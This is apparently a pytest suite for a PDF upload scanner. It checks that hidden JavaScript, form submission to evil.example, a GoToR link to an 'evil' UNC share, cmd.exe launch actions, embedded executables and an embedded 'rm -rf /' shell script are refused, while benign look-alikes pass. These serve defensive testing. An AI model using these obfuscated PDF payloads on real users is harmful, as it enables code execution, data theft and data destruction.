"""PDFs are judged by their structure: what acts is found however it is hidden, and what is only odd is taken."""

import io
import zlib
from collections.abc import Callable
from typing import Any

import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from ohmatdyt.core.filetypes import FileRefused, inspect
from tests.core import files
from tests.core.linear import MOST, growth
from tests.core.test_filetypes import ZIP, refusal

SCRIPT = b"<< /S /JavaScript /JS (app.alert(1)) >>"


def stream(dictionary: bytes, body: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (dictionary, len(body), body)


def packed(content: bytes, more: bytes = b"", first: int = 5) -> bytes:
    return stream(
        b"/Type /ObjStm /N 1 /First %d /Filter /FlateDecode %s" % (first, more), zlib.compress(content)
    )


HOSTILE: dict[str, bytes] = {
    "padding in the dictionary": b"<< /Pad (%s) /S /JavaScript /JS (x) >>" % (b"x" * 4200),
    "padding in a compressed one": packed(
        b"12 0 " + SCRIPT, b"/Pad (%s) /More [%s]" % (b"x" * 4200, b"0 " * 4000)
    ),
    "endobj in a string": b"<< /A (endobj) /S /JavaScript /JS (x) >>",
    "endobj in a compressed one": packed(b"12 0 " + SCRIPT, b"/Pad (endobj)"),
    "a bracket in a string": b"<< /A (\\)) /B <</C (()())>> /S/JavaScript/JS(x) >>",
    "a bracket in a hexadecimal string": b"<< /A <28> /S /JavaScript /JS <78> >>",
    "a comment between": b"<< /S %)\r/JavaScript /JS (x) >>",
    "escaped names": b"<< /#53 /#4a#61#76a#53cript /J#53 (x) >>",
    "broken pairs": b"<< /A /B /C /S /JavaScript /JS (x) >>",
    "an unclosed dictionary": b"<< /X << /S /JavaScript /JS (x)",
    "keywords within": b"<< /X endobj /Y obj /S /JavaScript /JS (x) >>",
    "within an array": b"[ 1 2 [ << /S /JavaScript /JS (x) >> ] ]",
    "a header with a comment": b"1 %x\n 0 %y\n obj\n" + SCRIPT,
    "a header with long comments": b"1 %" + b"x" * 200 + b"\n 0 %" + b"x" * 200 + b"\robj" + SCRIPT,
    "in the trailer": b"1\nendobj\ntrailer << /Root << /OpenAction " + SCRIPT + b" >> >>\n9 0 obj 1",
    "behind damaged compression": stream(
        b"/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode",
        zlib.compress(b"12 0 " + SCRIPT + bytes(range(256)) * 300)[:-200] + b"x" * 200,
    ),
    "filter by pointer": b"[/FlateDecode]\nendobj\n98 0 obj\n"
    + stream(b"/N 1 /First 5 /Filter 99 0 R", zlib.compress(b"12 0 " + SCRIPT)),
    "submit": b"<< /S /SubmitForm /F (http://evil.example) >>",
    "import": b"<< /S /ImportData /F (x.fdf) >>",
    "another file": b"<< /S /GoToR /F (\\\\\\\\evil\\\\x.pdf) /D [0 /Fit] >>",
    "an embedded target": b"<< /S /GoToE /T << /R /C >> >>",
    "launch": b"<< /S /Launch /Win << /F (cmd.exe) >> >>",
    "rich media": b"<< /Type /Annot /Subtype /RichMedia /RichMediaContent 3 0 R >>",
    "a rendition": b"<< /S /Rendition /OP 0 /JS 9 0 R >>",
    "XFA": b"<< /XFA [(preamble) 9 0 R] >>",
    "compressed XFA": packed(b"12 0 << /AcroForm << /XFA 9 0 R >> >>"),
    "an address that runs": b"<< /S /URI /URI (javascript:alert\\(1\\)) >>",
    "additional actions": b"<< /AA << /O " + SCRIPT + b" >> >>",
    "predictor": packed(b"12 0 <<>>", b"/DecodeParms << /Predictor 12 /Columns 4 >>"),
    "an executable": stream(b"/Type /EmbeddedFile", b"MZ\x90\x00" + bytes(100)),
    "a packed executable": stream(b"/Type /EmbeddedFile /Filter /FlateDecode", zlib.compress(b"MZ\x90\x00")),
    "a script inside": stream(b"/Type /EmbeddedFile", b"#!/bin/sh\nrm -rf /"),
    "an executable by its name": b"<< /Type /Filespec /F (run.bat) /EF << /F 98 0 R >> >>",
    "an executable without its type": stream(b"", b"\x7fELF" + bytes(40))
    + b"\nendobj\n98 0 obj\n<< /F (a.txt) /EF << /F 99 0 R >> >>",
    "a PDF with a script inside": stream(b"/Type /EmbeddedFile", files.pdf_with(SCRIPT)),
    "a document with a macro inside": stream(
        b"/Type /EmbeddedFile", files.docx({"word/vbaProject.bin": b"x"})
    ),
}
GOOD: dict[str, bytes] = {
    "words in a string": b"<< /Title (/JavaScript /S /Launch obj << /JS (x) >>) >>",
    "words in a comment": b"<< /A 1 >> % /S /JavaScript",
    "words on a page": stream(b"", b"BT (/JavaScript <script> /Encrypt 1 0 R /Launch) Tj ET"),
    "words in metadata": stream(
        b"/Type /Metadata /Subtype /XML", b"<x><script >no</script></x> /Encrypt 1 0 R"
    ),
    "a name with words": b"<< /BaseFont /JavaScriptSans >>",
    "links": b"<< /A << /S /URI /URI (https://example.org/JavaScript) >> /AA << /O << /S /GoTo /D [3 0 R] >> >> >>",
    "an invoice inside": stream(
        b"/Type /EmbeddedFile /Subtype /text#2Fxml", b"<?xml version='1.0'?><Invoice/>"
    )
    + b"\nendobj\n98 0 obj\n<< /Type /Filespec /F (factur-x.xml) /UF <FEFF0061002E0078006D006C> /EF << /F 99 0 R >> >>",
    "a signature": b"<< /Type /Sig /Filter /Adobe.PPKLite /ByteRange [0 1 2 3] /Contents <3082> >>",
    "a PDF inside": stream(b"/Type /EmbeddedFile", files.pdf()),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_what_acts_is_found_however_it_is_hidden(name: str) -> None:
    assert refusal(files.pdf_with(HOSTILE[name]), "x.pdf") == "unsafe_content"


@pytest.mark.parametrize("name", GOOD)
def test_what_only_looks_so_is_taken(name: str) -> None:
    assert refusal(files.pdf_with(GOOD[name]), "x.pdf") is None


@pytest.mark.parametrize(
    ("before", "after"),
    [
        (b"\xef\xbb\xbf", b""),
        (b"\r\n", b""),
        (b"   \n", b""),
        (b"\x00" * 16, b""),
        (b"", bytes(50_000)),
        (b"", b" " * 9000 + b"\r\n"),
        (b"\n", b"\x1a"),
    ],
)
def test_blanks_around_a_pdf_do_no_harm(before: bytes, after: bytes) -> None:
    assert refusal(before + files.pdf() + after, "x.pdf") is None
    assert refusal(before + files.pdf() + after + b"MZ\x90", "x.pdf") in {
        "unsafe_content",
        "content_mismatch",
    }
    assert refusal(before + files.pdf() + ZIP, "x.pdf") == "unsafe_content"


def test_what_is_no_document_is_refused() -> None:
    end = b"\nstartxref\n0\n%%EOF\n"
    assert refusal(b"%PDF-1.7\n1 0 obj << /Type /Page >> endobj" + end, "x.pdf") == "content_mismatch"
    assert refusal(b"%PDF-1.7\n" + b"x" * 500 + end, "x.pdf") == "content_mismatch"
    assert refusal(b"%PDF-1.7\n<script>alert(1)</script>\n" + files.pdf(), "x.pdf") == "unsafe_content"
    between = files.pdf().replace(b"xref\n", b"<html><body onload=x>\nxref\n", 1)
    assert refusal(between, "x.pdf") == "unsafe_content"


@pytest.mark.parametrize("algorithm", ["RC4-40", "RC4-128", "AES-128", "AES-256-R5", "AES-256"])
@pytest.mark.parametrize("script", [False, True])
def test_a_file_that_opens_without_a_password_is_judged(algorithm: str, script: bool) -> None:
    written = encrypted("", algorithm, script=script)
    assert refusal(written, "x.pdf") == ("unsafe_content" if script else None)
    assert refusal(encrypted("таємно", algorithm, script=script), "x.pdf") == "file_encrypted"


def encrypted(password: str, algorithm: str, *, script: bool) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(files.pdf())))
    if script:
        action = {"/S": NameObject("/JavaScript"), "/JS": TextStringObject("app.alert(1)")}
        writer.root_object[NameObject("/OpenAction")] = DictionaryObject(
            {NameObject(key): value for key, value in action.items()}
        )
    writer.encrypt(password, owner_password="власник", algorithm=algorithm)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@pytest.mark.parametrize("algorithm", ["RC4-128", "AES-128", "AES-256"])
def test_encrypted_compressed_objects_are_read(algorithm: str) -> None:
    """The compressed object is put in by hand, since the library that encrypts writes none."""
    for action, code in ((SCRIPT, "unsafe_content"), (b"<< /A 1 >>", None)):
        writer = PdfWriter(clone_from=PdfReader(io.BytesIO(files.pdf())))
        hidden = DecodedStreamObject()
        hidden.set_data(b"12 0 " + action)
        hidden[NameObject("/Type")] = NameObject("/ObjStm")
        hidden[NameObject("/N")] = NumberObject(1)
        hidden[NameObject("/First")] = NumberObject(5)
        writer.root_object[NameObject("/Hidden")] = writer._add_object(hidden.flate_encode())
        writer.encrypt("", owner_password="власник", algorithm=algorithm)
        writer.write(out := io.BytesIO())
        assert b"JavaScript" not in out.getvalue()
        assert refusal(out.getvalue(), "x.pdf") == code


@pytest.mark.parametrize(
    ("action", "word"),
    [
        (HOSTILE["launch"], "запуску програми"),
        (HOSTILE["XFA"], "XFA"),
        (HOSTILE["an executable"], "вкладений файл"),
    ],
)
def test_the_person_is_told_which_part_it_is(action: bytes, word: str) -> None:
    with pytest.raises(FileRefused) as caught:
        inspect(io.BytesIO(files.pdf_with(action)), "x.pdf")
    assert word in caught.value.detail("uk")


def judged(data: bytes) -> None:
    refusal(data, "x.pdf")


def with_repeated(piece: bytes) -> Callable[[int], Any]:
    good = files.pdf()
    return lambda size: good.replace(b"xref\n", piece * (size // len(piece)) + b"\nxref\n", 1)


@pytest.mark.parametrize(
    "piece",
    [
        *(
            b"/First ",
            b"obj ",
            b"obj(",
            b"obj%",
            b"1 0 obj<<",
            b"1 0 obj<<>>%",
            b"1 0 obj<<>>stream\n",
            b"<<",
            b"[",
        ),
        *(
            b"(",
            b"\\(",
            b"%",
            b"/",
            b"/#41",
            b"1 0 R ",
            b"endstream ",
            b"trailer<<",
            b"1 0 obj<</EF 1 0 R>>\n",
        ),
        *(
            b"1 0 obj<</N 1/First 5>>stream\nendstream ",
            b"startxref %%EOF ",
            b"<?php",
            b"PK\x05\x06",
            b"\xff\xff",
        ),
    ],
)
def test_time_grows_linearly_with_whatever_is_repeated(piece: bytes) -> None:
    assert growth(judged, with_repeated(piece), size=30_000) < MOST
    assert growth(judged, lambda size: piece * (size // len(piece)), size=30_000) < MOST


def test_an_object_stream_read_again_and_again_is_too_much() -> None:
    body = b"<< /A [" + b"1 " * 200_000 + b"] >>"
    head = b" ".join(b"%d 0" % number for number in range(1000)) + b" "
    again = stream(
        b"/Type /ObjStm /N 1000 /First %d /Filter /FlateDecode" % len(head), zlib.compress(head + body)
    )
    assert refusal(files.pdf_with(again), "x.pdf") == "archive_bomb"
